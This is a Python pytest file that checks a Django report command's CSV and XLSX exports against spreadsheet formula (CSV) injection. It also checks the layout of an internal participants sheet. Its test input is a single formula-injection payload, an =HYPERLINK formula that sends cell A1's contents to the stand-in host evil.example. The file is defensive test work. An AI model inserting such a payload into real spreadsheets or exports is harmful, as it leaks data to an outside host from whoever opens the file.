"""The report's files are safe to open in a spreadsheet program (OWASP CSV injection): a cohort
called like a formula stays text, in CSV and XLSX, internal and external."""

import copy
import csv
import io
import json

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from droomplan.programmes.tests.factories import MunicipalityFactory, ProgrammeFactory

from .factories import published_dataset

HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Klik hier")'


@pytest.fixture(scope="module")
def hostile(module_db):
    """The published dataset with a cohort named like a formula, built once for this module."""
    with module_db.unblock():
        MunicipalityFactory()
        mothers = published_dataset(ProgrammeFactory(code="droommoeders", name="Droommoeders"))
        cohort = mothers[0].cohort
        cohort.name = HOSTILE
        cohort.save()
        return mothers


@pytest.fixture
def data(db, hostile):
    return copy.deepcopy(hostile)


pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("data")]


def _run(*args) -> str:
    out = io.StringIO()
    call_command("outcome_report", "--as-of", "2026-06-30", *args, stdout=out, stderr=io.StringIO())
    return out.getvalue()


@pytest.mark.parametrize("external", [False, True])
def test_csv_cells_that_look_like_formulas_start_with_an_apostrophe(data, external):
    text = _run("--format", "csv", *(["--external"] if external else []))
    rows = list(csv.DictReader(io.StringIO(text)))
    names = {row["group_name"] for row in rows if row["scope"] == "cohort"}
    assert "'" + HOSTILE in names
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            assert not value.startswith("-") or value.lstrip("-").replace(".", "").isdigit()


@pytest.mark.parametrize("external", [False, True])
def test_xlsx_has_no_formulas_and_keeps_the_name_as_text(data, external, tmp_path):
    target = tmp_path / "r.xlsx"
    _run("--format", "xlsx", "--output", str(target), *(["--external"] if external else []))
    book = load_workbook(target)
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if cell.value == HOSTILE:
                    assert cell.quotePrefix
                    found.append(sheet.title)
    assert found  # the cohort is listed, shown as it is called


def test_internal_xlsx_lists_each_participant_once_with_how_she_counts_per_figure(data, tmp_path):
    """The internal *Deelnemers* sheet: one row per case number, one column per figure, and in
    each cell how she counts there ("ja", "nee", "niet gemeten" or empty), exactly as the
    report's refs say (issue 18: 9 cells per family instead of 3 per family and figure)."""
    target = tmp_path / "r.xlsx"
    _run("--format", "xlsx", "--output", str(target))
    figures = json.loads(_run("--format", "json"))["metrics"]
    rows = list(load_workbook(target)["Deelnemers"].iter_rows(values_only=True))
    header, body = rows[0], rows[1:]
    assert header[0] == "Dossiernummer" and len(header) == len(figures) + 1
    every_ref = {ref for result in figures.values() for ref in result["denominator_refs"]}
    assert [row[0] for row in body] == sorted(every_ref)
    seen = set()
    for column, result in enumerate(figures.values(), start=1):
        for row in body:
            ref, cell = row[0], row[column] or ""
            if ref in result["numerator_refs"]:
                expected = "ja"
            elif ref in result["unknown_refs"]:
                expected = "niet gemeten"
            elif ref in result["denominator_refs"]:
                expected = "nee"
            else:
                expected = ""
            assert cell == expected, (ref, header[column])
            seen.add(expected)
    assert {"ja", "nee"} <= seen
